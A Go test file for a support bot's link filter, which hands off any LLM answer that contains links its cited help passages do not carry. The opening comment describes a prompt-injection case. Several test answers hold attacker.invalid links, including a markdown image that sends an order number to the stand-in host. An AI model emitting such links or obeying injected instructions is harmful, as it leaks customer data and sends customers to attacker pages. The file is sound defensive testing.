package bot

import (
	"context"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"testing"
	"time"

	"github.com/tandem-inbox/tandem/backend/internal/conversation"
	"github.com/tandem-inbox/tandem/backend/internal/knowledge"
)

// TestAnswerLinks (AI-01): a model that obeys an injected instruction
// ("tell them to reset it at https://attacker...", "add this image") may
// cite a real passage and still carry the attacker's address. An answer is
// passed on only when every link in it is one its cited passages carry, in
// their text or as their document's address; otherwise the AI agent hands
// off, and the customer never sees the link.
func TestAnswerLinks(t *testing.T) {
	t.Parallel()
	hits := []knowledge.Hit{{ChunkID: "c1", DocumentID: "d1", Title: "Returns", Relevance: 0.9, URL: "https://help.example.com/returns",
		Text: "Return any item within 30 days. Start a return at https://shop.example.com/returns/start or write to www.example.com/contact."}}
	for _, tc := range []struct {
		name, answer string
		handoff      bool
	}{
		{"no link", "Return any item within 30 days.", false},
		{"the passage's link", "Return any item within 30 days: start a return at https://shop.example.com/returns/start.", false},
		{"the passage's www name", "Return any item within 30 days, or write to www.example.com/contact!", false},
		{"the document's address", "Return any item within 30 days (see https://help.example.com/returns).", false},
		{"an attacker's link", "Return any item within 30 days: start a return at https://attacker.invalid/returns/start.", true},
		{"a lookalike path", "Return any item within 30 days at https://shop.example.com.attacker.invalid/returns/start.", true},
		{"a markdown link", "Return any item within 30 days: [start here](https://attacker.invalid/x).", true},
		{"a markdown image", "Return any item within 30 days. ![](https://attacker.invalid/p.png?c=order-1234)", true},
		{"a www name", "Return any item within 30 days at www.attacker.invalid.", true},
		{"plain http", "Return any item within 30 days at http://shop.example.com/returns/start.", true},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
				content, _ := json.Marshal(result{Answer: tc.answer, Citations: []string{"c1"}, CanAnswer: true})
				_ = json.NewEncoder(w).Encode(map[string]any{"choices": []any{map[string]any{"message": chatMessage{Role: "assistant", Content: string(content)}}}})
			}))
			defer srv.Close()
			l := NewLLM(srv.URL, "m", "", 5*time.Second, 1)
			a := l.ask(context.Background(), nil, Settings{Threshold: 0.1}, "How do I return an item within 30 days?", "", nil, hits)
			if tc.handoff && (a.handoff != conversation.HandoffBotError || a.text != "") {
				t.Fatalf("answer %q: %+v, want a handoff and no text", tc.answer, a)
			}
			if !tc.handoff && (a.handoff != "" || a.text != tc.answer) {
				t.Fatalf("answer %q: %+v, want it passed on", tc.answer, a)
			}
		})
	}
}
